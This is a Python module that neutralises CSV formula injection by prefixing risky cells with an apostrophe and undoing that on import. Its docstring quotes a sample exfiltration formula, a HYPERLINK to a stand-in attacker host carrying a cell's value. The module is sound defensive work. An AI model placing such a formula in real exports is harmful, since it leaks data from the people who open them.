"""CSV that is safe to open in a spreadsheet, and reads back to the same values.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
taken for a formula by Excel, LibreOffice and Google Sheets: a customer named
``=HYPERLINK("https://evil.example/?"&A1,"open")`` would run in the sheet of
whoever opens an export (OWASP, "CSV Injection"). Such a cell is written with a
leading apostrophe (``'=HYPERLINK(…)``), which spreadsheets show as text and
hide; the full-width forms (``＝＋－＠``) count too, as some spreadsheets treat
them alike. The csv module quotes separators and double quotes.

``restore`` undoes it on import, so an export imports again unchanged: a cell of
apostrophes followed by one of those characters loses one apostrophe (and
``neutralise`` adds one to such a cell, so values that really start that way
survive the round trip). The importers apply it to every CSV cell and every text
cell of a workbook (a CSV export opened in a spreadsheet and saved as .xlsx keeps
the apostrophe as text). JSON Lines exports need none of this and stay exact.

Every CSV kehu writes goes through ``writer`` (tests/test_transfer.py checks the
tree for any other ``csv.writer``); plugins that write CSV should use it too.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, TextIO

FORMULA_STARTS = "=+-@\t\r＝＋－＠"
_ESCAPED = re.compile(f"'*[{re.escape(FORMULA_STARTS)}]")


def neutralise(value: Any) -> Any:
    """``value`` as a spreadsheet will show, never run: a string that could start a
    formula gets a leading apostrophe. Anything else is returned as it is."""
    if isinstance(value, str) and value and _ESCAPED.match(value):
        return "'" + value
    return value


def restore(value: str) -> str:
    """The value ``neutralise`` was given (for a cell read from a CSV file)."""
    return value[1:] if value.startswith("'") and _ESCAPED.match(value) else value


class SafeWriter:
    """``csv.writer`` whose every cell goes through ``neutralise``."""

    def __init__(self, out: TextIO, **options: Any):
        options.setdefault("lineterminator", "\n")
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: TextIO, **options: Any) -> SafeWriter:
    """A CSV writer for anything a person may open in a spreadsheet."""
    return SafeWriter(out, **options)
